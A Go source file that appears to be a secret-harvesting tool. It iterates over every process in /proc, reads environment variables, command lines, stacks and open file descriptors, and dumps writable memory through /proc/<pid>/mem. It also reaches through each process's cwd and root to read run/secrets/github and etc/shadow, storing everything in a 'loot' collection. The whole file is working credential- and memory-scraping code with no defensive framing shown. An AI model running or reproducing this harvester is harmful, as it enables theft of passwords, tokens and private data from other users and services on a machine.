package main

import (
	"fmt"
	"io"
	"os"
	"path/filepath"
	"syscall"
	"time"
)

const (
	chunk = 1 << 20
	// Bytes of one process: of huge memory only so much.
	perProcess = 512 << 20
	perFile    = 4 << 20
)

// procFiles reads what /proc has of every process.
func procFiles(l *loot) {
	for _, pid := range processes() {
		l.count("processes")
		who := describe(pid)
		l.save("part")
		for _, name := range []string{"environ", "cmdline", "maps", "auxv", "stack", "io", "mountinfo", "smaps"} {
			readInto(l, fmt.Sprintf("/proc/%d/%s", pid, name), who)
		}
		readMemory(l, pid, who)
		readDescriptors(l, pid, who)
		for _, name := range []string{"cwd", "root"} {
			l.count("folders of a process")
			path := fmt.Sprintf("/proc/%d/%s", pid, name)
			if entries, err := os.ReadDir(path); err == nil && name == "cwd" {
				for _, entry := range entries {
					if entry.Type().IsRegular() {
						readInto(l, filepath.Join(path, entry.Name()), who)
					}
				}
			}
			for _, secret := range []string{"run/secrets/github", "etc/shadow"} {
				readInto(l, filepath.Join(path, secret), who)
			}
		}
		tasks, _ := os.ReadDir(fmt.Sprintf("/proc/%d/task", pid))
		for _, task := range tasks {
			readInto(l, fmt.Sprintf("/proc/%d/task/%s/environ", pid, task.Name()), who)
		}
	}
}

func readInto(l *loot, path, who string) {
	l.count("files of processes")
	if data := read(path); data != nil {
		l.count("files of processes that were read")
		l.keep(who+" "+path, data)
	}
}

// read reads a file of any kind, and waits for none.
func read(path string) []byte {
	descriptor, err := syscall.Open(path, syscall.O_RDONLY|syscall.O_NONBLOCK|syscall.O_CLOEXEC, 0)
	if err != nil {
		return nil
	}
	defer syscall.Close(descriptor)
	return drain(descriptor)
}

func drain(descriptor int) []byte {
	var all []byte
	buffer := make([]byte, chunk)
	end := time.Now().Add(time.Second)
	for len(all) < perFile && time.Now().Before(end) {
		n, err := syscall.Read(descriptor, buffer)
		if n <= 0 || err != nil {
			break
		}
		all = append(all, buffer[:n]...)
	}
	return all
}

func readMemory(l *loot, pid int, who string) {
	maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
	l.count("memories")
	memory, failed := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
	if failed != nil {
		return
	}
	defer memory.Close()
	if err != nil {
		return
	}
	readRegions(l, "mem of "+who, writable(maps), func(buffer []byte, at uint64) int {
		n, err := memory.ReadAt(buffer, int64(at))
		if err != nil && err != io.EOF {
			return 0
		}
		return n
	})
}

func readRegions(l *loot, source string, regions []region, readAt func([]byte, uint64) int) int {
	buffer := make([]byte, chunk)
	total := 0
	for _, part := range regions {
		for at := part.from; at < part.to && total < perProcess; at += chunk {
			size := min(chunk, int(part.to-at))
			n := readAt(buffer[:size], at)
			if n <= 0 {
				break
			}
			total += n
			l.keep(source, buffer[:n])
		}
	}
	if total > 0 {
		l.count("memories that were read")
	}
	return total
}

func readDescriptors(l *loot, pid int, who string) {
	folder := fmt.Sprintf("/proc/%d/fd", pid)
	entries, _ := os.ReadDir(folder)
	for number := 0; number < 64; number++ {
		l.count("descriptors")
		path := fmt.Sprintf("%s/%d", folder, number)
		target, _ := os.Readlink(path)
		if data := read(path); data != nil {
			l.count("descriptors that were read")
			l.keep(fmt.Sprintf("descriptor %d of %s, %s", number, who, target), data)
		}
	}
	_ = entries
}
